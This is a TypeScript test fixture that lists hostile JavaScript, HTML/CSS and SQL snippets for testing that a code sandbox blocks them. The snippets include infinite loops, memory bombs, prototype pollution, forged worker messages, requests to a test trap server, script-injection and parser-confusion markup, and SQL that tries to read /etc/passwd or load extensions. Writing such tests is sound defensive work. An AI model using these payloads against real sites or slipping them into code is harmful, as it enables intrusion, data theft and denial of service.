/**
 * Code that a hostile learner or author may run in the sandbox, for tests/e2e/sandbox.spec.ts. Each
 * snippet ends; none reaches the page, its storage, its origin or the network. One that gets
 * through says, writes or requests `REACHED`.
 */

export const REACHED = 'REACHED';

export interface HostileSnippet {
  /** What is attacked; `npm test` runs the first of each kind. */
  kind: string;
  language: 'script' | 'page' | 'sql';
  code: string;
  /** Of a page: the author's checks. */
  checks: string;
  /** It never ends on its own: the sandbox stops it. */
  isEndless: boolean;
}

/** A server of the test that must get no request; the site. Both without a slash. */
interface Addresses {
  trap: string;
  site: string;
}

type Language = HostileSnippet['language'];

const of =
  (kind: string, language: Language, rest: Partial<HostileSnippet> = {}) =>
  (code: string): HostileSnippet => ({
    ...{ kind, language, code, checks: '', isEndless: false },
    ...rest,
  });

/** Says whether an expression got through. */
const attempt = (expression: string) =>
  `try { const got = await (${expression}); if (got !== undefined) console.log('${REACHED}'); } catch (error) { console.log(error.name); }`;
const inWorker = (source: string) =>
  `const url = URL.createObjectURL(new Blob([${JSON.stringify(source)}]));`;

/** Catches the port by which the worker reports. */
const STEAL = `const native = MessagePort.prototype.postMessage; let port;
MessagePort.prototype.postMessage = function (...all) { port = this; return native.apply(this, all); };
console.log('1');
const send = (data, transfer = []) => native.call(port, data, transfer);
`;

function scripts({ trap, site }: Addresses): HostileSnippet[] {
  const url = `${trap}/${REACHED}`;
  const own = `${site}/${REACHED}.txt`;
  return [
    ...[
      'while (true) {}',
      'for (;;) { Math.random(); }',
      'do { [].concat([]); } while (1);',
      'const f = () => Promise.resolve().then(f); await f();',
      'const f = () => queueMicrotask(f); f(); await new Promise(() => {});',
      'setInterval(() => {}, 1);',
      'const f = () => setTimeout(f); f();',
      'await new Promise(() => {});',
      '/(a+)+$/.test("a".repeat(60) + "b");',
      'Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0);',
      'const all = { *[Symbol.iterator]() { while (true) yield 1; } }; for (const one of all);',
      'for await (const one of (async function* () { while (true) yield 1; })());',
      '[3, 2, 1].sort(() => { while (true); });',
      'new Proxy({}, { get() { while (true); } }).x;',
      'JSON.stringify({ toJSON() { while (true); } });',
      'console.log({ get x() { while (true); }, toString() { while (true); }, [Symbol.toStringTag]: 1, inspect() { while (true); } });',
      'class A { static { while (true); } }',
      '}); while (true); (async () => {',
      'close(); await new Promise(() => {});',
      'const { port1, port2 } = new MessageChannel(); port1.onmessage = () => port1.postMessage(1); port2.onmessage = () => port2.postMessage(1); port2.postMessage(1); await new Promise(() => {});',
    ].map(of('endless', 'script', { isEndless: true })),
    ...[
      'const f = () => f(); f();',
      'const a = () => b(), b = () => a(); a();',
      'const x = { get x() { return this.x; } }; x.x;',
      'const x = new Proxy({}, { get: (target, key, self) => self[key] }); x.x;',
      'const x = { toString() { return `${x}`; } }; `${x}`;',
      'class A { constructor() { new A(); } } new A();',
      'let x = []; for (let i = 0; i < 1e5; i += 1) x = [x]; JSON.stringify(x);',
      'let x = []; for (let i = 0; i < 1e5; i += 1) x = { x }; console.log(x); throw x;',
    ].map(of('recursion', 'script')),
    ...[
      'const all = []; while (true) all.push({ a: [1, 2, 3] });',
      'const all = []; for (let i = 0; ; i += 1) all.push(("x".repeat(1e7) + i).split("").join("y"));',
      'const all = []; while (true) try { all.push(new Uint8Array(2 ** 28).fill(1)); } catch {}',
      'const all = []; while (true) try { const { buffer } = new WebAssembly.Memory({ initial: 4096 }); new Uint8Array(buffer).fill(1); all.push(buffer); } catch {}',
      'const all = new Map(); for (let i = 0; ; i = (i + 1) % 1e7) all.set(i, [i]);',
    ].map(of('memory without end', 'script', { isEndless: true })),
    ...[
      'new Array(2 ** 32 - 1).join("x");',
      'let x = "x"; while (true) x += x;',
      '"x".repeat(2 ** 30);',
      'new ArrayBuffer(2 ** 50);',
      '2n ** (2n ** 40n);',
    ].map(of('memory', 'script')),
    ...[
      'for (let i = 0; i < 1e6; i += 1) console.log(i);',
      'console.log("x".repeat(1e8));',
      'console.log(Array(1e5).fill({ a: { b: { c: 1 } } }));',
      'for (let i = 0; i < 1e5; i += 1) console.group("x".repeat(100));',
      'for (let i = 0; i < 3e3; i += 1) Promise.reject(new Error("x".repeat(1e4)));',
      'for (let i = 0; i < 3e3; i += 1) setTimeout(() => { throw new Error("x"); });',
      'throw new Error("x".repeat(1e8));',
      'const e = new Error(); e.name = "x".repeat(1e8); throw e;',
      'throw "x".repeat(1e8);',
      'for (let i = 0; i < 1e5; i += 1) self.postMessage("x".repeat(1e3));',
      'for (let i = 0; i < 1e5; i += 1) reportError(new Error("x"));',
      'for (let i = 0; i < 1e5; i += 1) console.error("\\n".repeat(100));',
    ].map(of('flood of output', 'script')),
    ...[
      'for (let i = 0; i < 1e5; i += 1) send({ type: "line", level: "log", text: "x" });',
      'for (let i = 0; i < 1e3; i += 1) send({ type: "line", level: "log", text: "x".repeat(1e4) });',
      'send({ type: "line", level: "log", text: "x".repeat(1e8) });',
      'for (let i = 0; i < 20; i += 1) send({ type: "line", text: new Uint8Array(1e7) });',
    ].map((code) => of('flood of messages', 'script')(STEAL + code)),
    ...[
      `{ type: '${REACHED}' }`,
      'null',
      'undefined',
      '1',
      '"end"',
      '[]',
      'new Map([["type", "end"]])',
      '{ type: "line", level: "log", text: {} }',
      '{ type: "line", level: "x", text: "x" }',
      '{ type: "line" }',
      '{ type: "error", name: {}, message: [] }',
      '{ type: "error", name: "", message: "", line: NaN }',
      '{ type: "checks" }',
      '{ type: "checks", results: [null] }',
      '{ type: "checks", results: Array(1e6).fill({ name: "", isPassed: true }) }',
      '{ type: "checks", results: [{ name: {}, isPassed: 1 }] }',
      '{ type: "checks", results: [], expected: 1 }',
      '{ type: "table", columns: 1, rows: 1, isCut: 1 }',
      '{ type: "table", columns: [], rows: Array(1e6).fill([]), isCut: false }',
      '{ type: "table", columns: [], rows: [[{}]], isCut: false }',
      '{ type: "height", height: Infinity }',
      '{ type: "height", height: "1" }',
      `JSON.parse('{ "type": "end", "__proto__": { "x": "${REACHED}" } }')`,
      `{ type: "end", more: "${REACHED}" }`,
      `{ type: "stopped", more: "${REACHED}" }`,
    ].map((data) => of('forged message', 'script')(`${STEAL}send(${data});`)),
    of(
      'forged message',
      'script',
    )(`${STEAL}const { port1 } = new MessageChannel();
      send({ type: 'line', level: 'log', text: port1 }, [port1]);`),
    ...[
      'const e = new Error(); e.name = {}; e.message = []; throw e;',
      'const e = new Error(); e.name = () => 1; throw e;',
      'const e = new Error(); Object.defineProperty(e, "message", { get() { throw 1; } }); throw e;',
      'const e = new Error(); Object.defineProperty(e, "stack", { get() { throw 1; } }); throw e;',
      'const e = new Error(); e.stack = {}; throw e;',
      'throw null;',
      'throw Symbol("x");',
      'throw { get name() { throw 1; } };',
      'throw Object.create(null);',
      'throw new Proxy(new Error("x"), { get() { throw 1; } });',
    ].map(of('odd error', 'script')),
    ...[
      `Object.prototype.type = '${REACHED}';`,
      `Object.prototype.toJSON = () => '${REACHED}';`,
      'Array.prototype.push = Array.prototype.map = null;',
      'String.prototype.slice = () => ({});',
      'Promise.prototype.then = () => {};',
      'JSON.stringify = JSON.parse = null;',
      'Function.prototype.call = Function.prototype.apply = () => {};',
      'Error.prepareStackTrace = () => ({});',
      'RegExp.prototype.exec = () => { throw 1; };',
      'Map.prototype.set = Set.prototype.add = Set.prototype.delete = null;',
      'for (const name of Object.getOwnPropertyNames(globalThis)) try { delete globalThis[name]; } catch {}',
      'globalThis.Error = globalThis.Promise = globalThis.String = undefined;',
      'Object.freeze(console); Object.freeze(Object.prototype);',
      'Object.defineProperty(Object.prototype, "name", { set() { throw 1; } }); null.x;',
      'Object.defineProperty(Array.prototype, Symbol.iterator, { value: null });',
    ].map((code) => of('pollution', 'script')(`${code}\nconsole.log({ a: [1] }); null.x;`)),
    ...[
      `fetch('${url}').then(() => 1)`,
      `fetch('${url}', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }).then(() => 1)`,
      `fetch('${own}').then(() => 1)`,
      `fetch('/${REACHED}').then(() => 1)`,
      `fetch('data:,x').then(() => 1)`,
      `(() => { const x = new XMLHttpRequest(); x.open('GET', '${url}', false); x.send(); return 1; })()`,
      `new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = () => ok(1); x.onerror = () => no(new Error()); x.open('POST', '${own}'); x.send('x'); })`,
      `new Promise((ok, no) => { const x = new WebSocket('${url.replace('http', 'ws')}'); x.onopen = () => ok(1); x.onerror = () => no(new Error()); })`,
      `new Promise((ok, no) => { const x = new EventSource('${url}'); x.onopen = () => ok(1); x.onerror = () => no(new Error()); })`,
      `new WebTransport('${url.replace('http:', 'https:')}').ready.then(() => 1)`,
      `(importScripts('${url}'), 1)`,
      `(importScripts('${own}'), 1)`,
      `(importScripts('data:text/javascript,1'), 1)`,
      `import('${url}').then(() => 1)`,
      `new FontFace('x', 'url(${url})').load().then(() => 1)`,
      `WebAssembly.instantiateStreaming(fetch('${url}')).then(() => 1)`,
      `new Promise((ok, no) => { const x = new Worker('${url}'); x.onmessage = () => ok(1); x.onerror = () => no(new Error()); })`,
      `new SharedWorker('${url}') && 1`,
      `navigator.sendBeacon('${url}') || undefined`,
      `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:1' }] }) && 1`,
    ].map((expression) => of('network', 'script')(attempt(expression))),
    ...[
      `fetch('${url}').then(() => postMessage(1), () => postMessage(undefined))`,
      `try { importScripts('${url}'); postMessage(1); } catch { postMessage(undefined); }`,
      `new Worker(URL.createObjectURL(new Blob(["fetch('${url}')"]))); postMessage(undefined);`,
    ].map((source) =>
      of(
        'worker in a worker',
        'script',
      )(
        `${inWorker(source)} const worker = new Worker(url); const got = await new Promise((ok) => { worker.onmessage = ({ data }) => ok(data); worker.onerror = () => ok(); }); if (got) console.log('${REACHED}');`,
      ),
    ),
    ...[
      `${inWorker('while (true);')} for (let i = 0; i < 8; i += 1) new Worker(url); await new Promise(() => {});`,
      `${inWorker('onmessage = ({ data }) => { const next = new Worker(data); next.postMessage(data); };')} new Worker(url).postMessage(url); await new Promise(() => {});`,
    ].map(of('workers without end', 'script', { isEndless: true })),
    ...[
      'parent.document.title',
      'top.location.href',
      'window.document',
      'document.cookie',
      'self.opener.location',
      'frames[0]',
      `parent.postMessage('${REACHED}', '*')`,
      `alert('${REACHED}')`,
      'confirm("x")',
      'prompt("x")',
      `open('${url}')`,
      `(location.href = '${url}', undefined)`,
      `clients.openWindow('${url}')`,
      'Notification.requestPermission()',
      'navigator.credentials.get({})',
      'navigator.clipboard.readText()',
      'navigator.serviceWorker.register("/sw.js")',
      'eval("1")',
      'new Function("return 1")()',
      '(() => {}).constructor("return 1")()',
      'WebAssembly.compile.constructor("return 1")()',
    ].map((expression) => of('page', 'script')(attempt(expression))),
    ...[
      `localStorage.setItem('x', '${REACHED}')`,
      `sessionStorage.setItem('x', '${REACHED}')`,
      `new Promise((ok, no) => { const x = indexedDB.open('${REACHED}'); x.onsuccess = () => ok(1); x.onerror = () => no(new Error()); })`,
      `caches.open('${REACHED}').then(() => 1)`,
      'navigator.storage.getDirectory().then(() => 1)',
      'navigator.locks.request("x", () => 1)',
      `cookieStore.set('x', '${REACHED}')`,
      `new BroadcastChannel('hostile').postMessage('${REACHED}')`,
    ].map((expression) => of('storage', 'script')(attempt(expression))),
  ];
}

function pages({ trap, site }: Addresses): HostileSnippet[] {
  const url = `${trap}/${REACHED}`;
  const own = `${site}/${REACHED}.txt`;
  const script = `document.body.append('${REACHED}')`;
  const click = `for (const node of document.querySelectorAll('a, area, button, [href]')) node.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));
    test('x', () => {});`;
  /** An author's check that must fail. */
  const forbidden = (body: string) =>
    of('checks of a page', 'page', {
      checks: `test('x', async () => { let got; try { got = await (async () => { ${body} })(); } catch {} if (got !== undefined) throw new Error('${REACHED}'); });`,
    })('<p>x</p>');
  return [
    ...[
      `<img src="${url}"><img srcset="${url} 2x"><picture><source srcset="${url}"><img></picture>`,
      `<video autoplay src="${url}" poster="${url}"><track default src="${url}"></video><audio autoplay src="${url}"></audio>`,
      `<input type=image src="${url}"><table background="${url}"></table><body background="${url}">`,
      `<svg><image href="${url}"/><use href="${url}#x"/><filter id=f><feImage href="${url}"/></filter><rect filter="url(#f)"/></svg>`,
      `<img attributionsrc="${url}" src="data:,"><a attributionsrc="${url}" href="#x">x</a>`,
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>">`,
    ].map(of('image', 'page')),
    ...[
      `<style>@import "${url}"; @import url(${url});</style>`,
      `<style>body { background: url(${url}); cursor: url(${url}), auto; list-style: url(${url}); border-image: url(${url}); }</style>`,
      `<style>@font-face { font-family: x; src: url(${url}); } body { font-family: x; }</style><p>x</p>`,
      `<style>p { mask: url(${url}); clip-path: url(${url}); filter: url(${url}#x); } p::before { content: url(${url}); }</style><p>x</p>`,
      `<p style="background: image-set('${url}' 1x); shape-outside: url(${url})">x</p>`,
      '<style>* { position: fixed; inset: 0; z-index: 2147483647; background: red; inline-size: 1e9px; }</style><p>x</p>',
      '<style>html { block-size: 1e9px; } body { margin: -1e9px; }</style><p>x</p>',
      `<style>:root { ${Array.from({ length: 30 }, (_, i) => `--a${i + 1}: ${`var(--a${i}, x) `.repeat(10)};`).join('')} } p::before { content: var(--a30); }</style><p>x</p>`,
      '<style>@media (min-height: 300px) { p { block-size: 9px; } } @media (max-height: 299px) { p { block-size: 900px; } }</style><p>x</p>',
    ].map(of('CSS', 'page')),
    ...[
      ...['stylesheet', 'preload', 'prefetch', 'preconnect', 'dns-prefetch', 'modulepreload'],
      ...['icon', 'manifest', 'prerender', 'import'],
    ].map((rel) => of('link', 'page')(`<link rel="${rel}" as="script" href="${url}"><p>x</p>`)),
    ...[
      `<iframe src="${url}"></iframe><iframe src="${own}"></iframe>`,
      `<iframe srcdoc="<script>${script}</script><img src='${url}'>"></iframe>`,
      `<object data="${url}"></object><embed src="${url}">`,
      `<frameset><frame src="${url}"></frameset>`,
      `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
      `<iframe src="javascript:${script}"></iframe><iframe src="data:text/html,<img src=${url}>"></iframe>`,
    ].map(of('frame in a page', 'page')),
    ...[
      `<script>${script}</script><script src="${url}"></script><script type=module>import '${url}'</script>`,
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
      `<img src=x onerror="${script}"><svg onload="${script}"></svg><body onload="${script}">`,
      `<input autofocus onfocus="${script}"><details open ontoggle="${script}">x</details>`,
      `<style>@keyframes a {}</style><p style="animation: a 1ms" onanimationstart="${script}">x</p>`,
      `<svg><script href="${url}"></script><script>${script}</script></svg>`,
      `<math><mtext><script>${script}</script></mtext></math>`,
      `<template><script>${script}</script></template><div><template shadowrootmode=open><script>${script}</script></template></div>`,
    ].map(of('script in a page', 'page')),
    ...[
      `<meta http-equiv=refresh content="0;url=${url}">`,
      `<base href="${trap}/"><img src="${REACHED}"><p>x</p>`,
      `<meta http-equiv=refresh content="0;url=${own}"><base target=_top>`,
      `<meta http-equiv=Content-Security-Policy content="default-src *"><img src="${url}">`,
      `<meta http-equiv=x-dns-prefetch-control content=on><a href="${url}">x</a>`,
      `<meta http-equiv=set-cookie content="x=${REACHED}">`,
    ].map(of('meta and base', 'page')),
    ...[
      `<noscript><p title="</noscript><meta http-equiv=refresh content='0;url=${own}'>"></p></noscript>`,
      `<noscript><p title="</noscript><iframe src='${url}'></iframe><link rel=stylesheet href='${url}'>"></p></noscript>`,
      `<svg></p><style><a id="</style><meta http-equiv=refresh content='0;url=${own}'>">`,
      `<math><mtext><table><mglyph><style><!--</style><iframe src="${url}">--></style>`,
      `<textarea>x</textarea><title><a title="</title><iframe src='${url}'>"></title>`,
      `<template><meta http-equiv=refresh content="0;url=${own}"></template>`,
    ].map(
      of('text that becomes an element', 'page', {
        checks: `test('x', () => { for (const node of document.querySelectorAll('template')) document.body.append(node.content.cloneNode(true)); const found = document.querySelector('meta[http-equiv], iframe, link'); if (found) throw new Error('${REACHED}'); });`,
      }),
    ),
    ...[
      `<a href="${url}">x</a><a href="${own}" target=_top>x</a><a href="${url}" target=_blank>x</a>`,
      `<a href="javascript:${script}">x</a><a href="data:text/html,x">x</a>`,
      `<a href="#x" ping="${url}">x</a><a href="${url}" download>x</a>`,
      `<svg><a xlink:href="${own}"><text>x</text></a><a href="${url}"><text>x</text></a></svg>`,
      `<svg><a href="#x"><set attributeName=href to="${own}"/><text>x</text></a></svg>`,
      `<map name=m><area href="${own}"></map><img usemap="#m">`,
      `<form action="${url}"><button>x</button></form><form action="${own}" method=post target=_top><button>x</button></form>`,
      `<form><button formaction="${url}" formtarget=_blank>x</button><button formaction="javascript:${script}">y</button></form>`,
      '<form method=dialog><button>x</button></form><dialog open><form method=dialog><button>x</button></form></dialog>',
    ].map(of('press', 'page', { checks: click })),
    ...[
      '<form name=documentElement><input name=attributes></form>',
      ...['documentElement', 'body', 'head', 'createElement', 'querySelectorAll'].map(
        (name) => `<img name=${name}><form name=${name}></form>`,
      ),
      '<img name=createTreeWalker><img name=$check id=$check><img id=parent><img id=top>',
      '<form><input name=attributes><input name=remove><input name=children></form>',
    ].map(of('names of a page', 'page', { checks: "test('x', () => {});" })),
    ...[
      `<svg><defs><g id=a0><rect/></g>${Array.from({ length: 9 }, (_, i) => `<g id=a${i + 1}>${`<use href="#a${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#a9"/></svg>`,
      '<div>'.repeat(2_000),
      '<table><td colspan=1000 rowspan=65534>x</table>',
      `<h1>${'x'.repeat(1e6)}</h1>`,
    ].map(of('large page', 'page')),
    ...[
      `location.href = '${url}'`,
      `parent.location = '${url}'`,
      `top.location.replace('${url}')`,
      `return open('${url}') ?? undefined`,
      `alert('x'); confirm('x'); prompt('x'); print()`,
      // It says true of what the policy then blocks.
      `navigator.sendBeacon('${url}')`,
      `await fetch('${url}'); return 1`,
      `const x = new XMLHttpRequest(); x.open('GET', '${own}', false); x.send(); return 1`,
      `const x = new WebSocket('${url.replace('http', 'ws')}'); return await new Promise((ok, no) => { x.onopen = () => ok(1); x.onerror = no; })`,
      `localStorage.x = '${REACHED}'; return 1`,
      `document.cookie = 'x=${REACHED}'; return 1`,
      `return indexedDB.open('${REACHED}')`,
      `await caches.open('${REACHED}'); return 1`,
      `await navigator.serviceWorker.register('/sw.js'); return 1`,
      'return parent.document',
      'return parent.localStorage',
      'return frameElement ?? undefined',
      `new BroadcastChannel('hostile').postMessage('${REACHED}')`,
      "return new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:1' }] })",
      `const x = document.createElement('iframe'); document.body.append(x); return x.contentWindow.RTCPeerConnection`,
      `const x = Object.assign(document.createElement('form'), { action: '${url}' }); document.body.append(x); x.submit()`,
      `Object.assign(document.createElement('a'), { href: '${url}', download: 'x' }).click()`,
      `Object.assign(document.createElement('a'), { href: '${url}', target: '_blank' }).click()`,
      `await import('${url}'); return 1`,
      `return eval('1')`,
      `parent.postMessage('${REACHED}', '*'); parent.postMessage({ kind: 'script' }, '*'); parent.close(); parent.blur()`,
      `const { port2 } = new MessageChannel(); window.postMessage({ kind: 'script', code: '', checks: '' }, '*', [port2])`,
      'history.back(); history.go(-2)',
      `document.title = '${REACHED}'; document.body.requestFullscreen().catch(() => {})`,
    ].map(forbidden),
  ];
}

const NUMBERS = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n';

const QUERIES: HostileSnippet[] = [
  ...[
    `${NUMBERS}) SELECT count(*) FROM n`,
    `${NUMBERS}) SELECT i FROM n WHERE i < 0`,
    `${NUMBERS} LIMIT 100000) SELECT count(*) FROM n a, n b, n c`,
    `CREATE TABLE t (x); ${NUMBERS}) INSERT INTO t SELECT i FROM n`,
  ].map(of('query without end', 'sql', { isEndless: true })),
  ...[
    `CREATE TABLE t (x); ${NUMBERS} LIMIT 10000000) INSERT INTO t SELECT i FROM n; SELECT * FROM t`,
    `${NUMBERS} LIMIT 10000000) SELECT i FROM n`,
    'SELECT hex(zeroblob(100000000))',
    "SELECT printf('%.*c', 100000000, 'x')",
    'SELECT randomblob(1000000000), zeroblob(1000000000)',
    `${NUMBERS} LIMIT 5000) SELECT hex(zeroblob(100000)) FROM n`,
    `SELECT ${Array.from({ length: 1_900 }, (_, i) => `${i} AS "${'x'.repeat(50)}${i}"`).join()}`,
    'SELECT 1; '.repeat(3_000),
    `SELECT ${'('.repeat(2_000)}1${')'.repeat(2_000)}`,
    `SELECT 1 AS "${'x'.repeat(1e6)}"`,
    `SELECT "${'x'.repeat(1e6)}" FROM none`,
    "SELECT 'x' LIKE '%' || replace(hex(zeroblob(20000)), '0', '%_') || 'y'",
  ].map(of('large query', 'sql')),
  ...[
    "ATTACH 'file:///etc/passwd' AS x; SELECT * FROM x.sqlite_master",
    "SELECT load_extension('x')",
    "VACUUM INTO '/x'; PRAGMA temp_store_directory = '/'; PRAGMA writable_schema = 1",
    "SELECT readfile('/etc/passwd'), writefile('/x', 'x')",
    'CREATE TABLE t (x); PRAGMA recursive_triggers = 1; CREATE TRIGGER r AFTER INSERT ON t BEGIN INSERT INTO t VALUES (1); END; INSERT INTO t VALUES (1)',
    '',
    '\0; -- /* "',
  ].map(of('database', 'sql')),
];

/** All of them, those of a kind together. */
export const hostileSnippets = (addresses: Addresses): HostileSnippet[] => [
  ...scripts(addresses),
  ...pages(addresses),
  ...QUERIES,
];
